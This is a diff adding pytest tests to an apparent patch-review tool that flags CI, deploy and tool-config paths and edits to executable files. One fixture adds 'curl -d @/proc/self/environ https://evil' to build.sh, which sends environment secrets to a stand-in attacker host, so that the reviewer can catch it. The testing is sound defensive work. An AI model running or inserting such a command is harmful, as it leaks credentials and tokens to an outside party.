@@ -667,9 +667,9 @@ def test_a_more_precise_kind_replaces_tool_config() -> None:
 # -- deploy platforms' build configs: `ci_config` at any depth (issue 16, item 2b) ------------------------------
 DEPLOY_CONFIGS = [
     "netlify.toml", "apps/web/netlify.toml", "amplify.yml", "amplify.yaml", "vercel.json", "apps/site/vercel.json",
-    "now.json", "render.yaml", "app.json", "heroku.yml", "wrangler.toml", "wrangler.json", "workers/api/wrangler.jsonc",
+    "now.json", "render.yaml", "heroku.yml", "wrangler.toml", "wrangler.json", "workers/api/wrangler.jsonc",
     "railway.json", "railway.toml", ".railway/railway.ts", "railpack.json", "nixpacks.toml", "nixpacks.json",
-    "fly.toml", "Procfile", "backend/Procfile", "app.yaml", "app.yml", "services/api/app.yaml", "firebase.json",
+    "fly.toml", "Procfile", "backend/Procfile", "firebase.json",
     "serverless.yml", "serverless.yaml", "serverless.ts", ".platform.app.yaml", ".platform/routes.yaml",
     ".platform/hooks/prebuild/x.sh", ".upsun/config.yaml", "apprunner.yaml", ".ebextensions/01.config",
     "api/.ebextensions/x.config", "Aptfile", "project.toml", ".do/deploy.template.yaml",
@@ -739,3 +739,123 @@ def test_the_fix_workflow_reviews_with_the_snapshots_links_and_files(tmp_path: P
     patch = file_patch("tools/lint/dist/index.js") + file_patch("editor/settings.json")
     assert sorted((f.kind, f.path) for f in _review(patch, found, snapshot).findings) == [
         ("ci_config", "tools/lint/dist/index.js"), ("tool_config", "editor/settings.json")]
+
+
+FOLDER_B_MODIFIED = ("diff --git a/x b/notes.txt b/x b/notes.txt\nindex 7898192..422c2b7 100644\n"
+                     "--- a/x b/notes.txt\t\n+++ b/x b/notes.txt\t\n@@ -1 +1,2 @@\n a\n+b\n")
+FOLDER_B_ADDED = ("diff --git a/docs b/b b/c.md b/docs b/b b/c.md\nnew file mode 100644\nindex 0000000..7898192\n"
+                  "--- /dev/null\n+++ b/docs b/b b/c.md\t\n@@ -0,0 +1 @@\n+a\n")
+FOLDER_B_REMOVED = ("diff --git a/x b/old.txt b/x b/old.txt\ndeleted file mode 100644\nindex 7898192..0000000\n"
+                    "--- a/x b/old.txt\t\n+++ /dev/null\n@@ -1 +0,0 @@\n-a\n")
+FOLDER_B_RENAMED = ("diff --git a/x b/notes.txt b/x b/n2.txt\nsimilarity index 100%\n"
+                    "rename from x b/notes.txt\nrename to x b/n2.txt\n")
+
+
+@pytest.mark.parametrize(("patch", "files"), [
+    (FOLDER_B_MODIFIED, [("x b/notes.txt", "modified", None)]),
+    (FOLDER_B_ADDED, [("docs b/b b/c.md", "added", None)]),
+    (FOLDER_B_REMOVED, [("x b/old.txt", "removed", None)]),
+    (FOLDER_B_RENAMED, [("x b/n2.txt", "renamed", "x b/notes.txt")]),
+    (FOLDER_B_MODIFIED + FOLDER_B_RENAMED, [("x b/notes.txt", "modified", None), ("x b/n2.txt", "renamed", "x b/notes.txt")]),
+])
+def test_folders_ending_in_space_b_are_read_as_git_reads_them(patch: str, files: list[tuple]) -> None:
+    """#16, eighth tester: `diff --git a/x b/notes.txt b/x b/notes.txt` (git's own output for a folder `x b`,
+    `---`/`+++` with git's trailing tab) made the whole patch `unreadable`; git splits it where both names
+    are equal, or where the `---`/`+++` or rename headers say."""
+    review = review_patch(patch)
+
+    assert [(f.path, f.action, f.old_path) for f in review.files] == files
+    assert review.findings == []
+    assert all(" b/x" not in path and "\ue000" not in path for f in review.files for path in f.paths)
+
+
+def test_a_sensitive_path_inside_a_space_b_folder_is_still_found() -> None:
+    """Telling the names apart must not hide one: every name the headers give is still reviewed."""
+    patch = ("diff --git a/.github/workflows/a b/ci.yml b/.github/workflows/a b/ci.yml\nindex 1..2 100644\n"
+             "--- a/.github/workflows/a b/ci.yml\t\n+++ b/.github/workflows/a b/ci.yml\t\n@@ -1 +1,2 @@\n a\n+b\n")
+
+    review = review_patch(patch)
+
+    assert [(f.kind, f.path) for f in review.findings] == [("ci_config", ".github/workflows/a b/ci.yml")]
+
+
+# -- platform files with common names, where the platform reads them (issue 16, eighth tester) ------------------
+def test_heroku_app_json_is_ci_config_at_the_root_only() -> None:
+    """#16, eighth tester: `locales/en/app.json` fixes were refused; Heroku reads app.json at the root only."""
+    assert kinds(file_patch("app.json")) == [("ci_config", "app.json")]
+    assert kinds(file_patch("APP.JSON")) == [("ci_config", "APP.JSON")]
+    assert kinds(file_patch("locales/en/app.json")) == []
+    assert kinds(file_patch("src/app.json")) == []
+
+
+@pytest.mark.parametrize(("path", "tree", "expected"), [
+    ("app.yaml", [], True),
+    ("app.yml", [], True),
+    ("services/api/app.yaml", ["services/api/main.py"], True),  # an App Engine service's folder
+    ("web/app.yaml", ["web/package.json"], True),
+    ("svc/App.yaml", ["svc/Api.csproj"], True),
+    ("config/app.yaml", ["config/settings.yaml", "main.py"], False),  # another tool's file
+    ("locales/en/app.yaml", [], False),
+    ("services/api/app.yaml", [], False),
+])
+def test_app_engine_app_yaml_is_ci_config_at_the_root_or_in_a_service_folder(
+        path: str, tree: list[str], expected: bool) -> None:
+    """App Engine deploys a service from a folder holding its app.yaml with its source: `config/app.yaml` is not one."""
+    found = review_in(file_patch(path), tree)
+    assert found == ([("ci_config", path)] if expected else [])
+
+
+def test_a_patch_adding_a_service_with_its_app_yaml_is_ci_config() -> None:
+    """The folder's source may arrive in the same patch: the tree after the patch counts too."""
+    assert ("ci_config", "api/app.yaml") in kinds(file_patch("api/app.yaml") + file_patch("api/requirements.txt"))
+
+
+# -- an edit to a file that is already executable (issue 16, eighth tester) ---------------------------------------
+EDIT_EXECUTABLE = ("diff --git a/build.sh b/build.sh\nindex 1111111..2222222 100755\n--- a/build.sh\n+++ b/build.sh\n"
+                   "@@ -1 +1,2 @@\n #!/bin/sh\n+curl -d @/proc/self/environ https://evil\n")
+
+
+def test_an_edit_to_an_executable_file_is_listed_and_refused_unless_allowed() -> None:
+    """#16, eighth tester: only "made executable" was caught, though CI runs `./build.sh` as it is."""
+    review = review_patch(EDIT_EXECUTABLE)
+    assert [(f.kind, f.path, f.detail) for f in review.findings] == [
+        ("executable", "build.sh", "edits an executable file (mode 100755)")]
+    assert [f.kind for f in review.refused()] == ["executable"]
+    assert review.refused(allow=["executable"]) == []
+    renamed = ("diff --git a/bin/a b/bin/post_compile\nsimilarity index 90%\nrename from bin/a\nrename to bin/post_compile\n"
+               "index 1111111..2222222 100755\n--- a/bin/a\n+++ b/bin/post_compile\n@@ -1 +1,2 @@\n x\n+y\n")
+    assert ("executable", "bin/post_compile") in kinds(renamed)
+
+
+def test_edits_to_ordinary_files_and_removing_an_executable_are_not_executable() -> None:
+    assert kinds(EDIT_EXECUTABLE.replace("100755", "100644")) == []
+    removed = ("diff --git a/build.sh b/build.sh\ndeleted file mode 100755\nindex 1111111..0000000\n--- a/build.sh\n"
+               "+++ /dev/null\n@@ -1 +0,0 @@\n-#!/bin/sh\n")
+    assert kinds(removed) == []
+
+
+# -- tools read by stem in several formats, and names nobody listed (issue 16, eighth tester) ---------------------
+TOOL_STEM_SPELLINGS = [
+    "vercel.ts", "apps/web/vercel.js", "vercel.mjs", "vercel.cjs", "site/vercel.mts", "vercel.toml",
+    "netlify.yml", "apps/docs/netlify.json", "Dockerrun.aws.json", "apphosting.yaml", "apphosting.staging.yaml",
+    "appspec.yml", "deploy/appspec.json", "azure.yaml", "okteto.yml", "porter.yaml", "captain-definition",
+    "zbpack.json", "mise.local.toml", "sub/mise.production.toml", "tools/mise/config.toml", ".mise.dev.toml",
+    "pkg/.mise.local.toml", "_gvimrc", "src/.gvimrc", "simple-git-hooks.mjs", "web/.simple-git-hooks.ts",
+    "lefthook.jsonc", "pkg/lefthook-local.yaml", "hk.pkl", "captainhook.json", "grumphp.yml", "grumphp.yml.dist",
+    "prek.toml", "app.sublime-project", "devfile.yaml", "devenv.nix", "devenv.yaml", "ios/ci_scripts/ci_post_clone.sh",
+    "ci_scripts/ci_pre_xcodebuild.sh", "bin/post_compile", "bin/pre_compile", "VERCEL.TS", "Lefthook.JSONC",
+]
+
+
+def test_tools_read_by_stem_are_ci_config_in_any_of_their_formats(tmp_path: Path) -> None:
+    """#16, eighth tester: vercel.ts, netlify.yml, mise.local.toml, lefthook.jsonc... passed unlisted; a stem with
+    any of its formats is matched (`TOOL_STEMS`), so a spelling nobody listed is caught too."""
+    assert planted(tmp_path, TOOL_STEM_SPELLINGS) == sorted(("ci_config", name) for name in TOOL_STEM_SPELLINGS)
+
+
+def test_look_alikes_of_tool_stems_pass(tmp_path: Path) -> None:
+    """Stems take configuration formats only: documentation and ordinary source files of the same stem pass."""
+    assert planted(tmp_path, [
+        "docs/vercel.md", "docs/netlify.md", "src/providers/azure.ts", "src/porter.py", "mise.md", "docs/devenv.md",
+        "src/lefthook.go", "bin/compile.py", "scripts/ci_scripts.md", "hk.py",
+    ]) == []
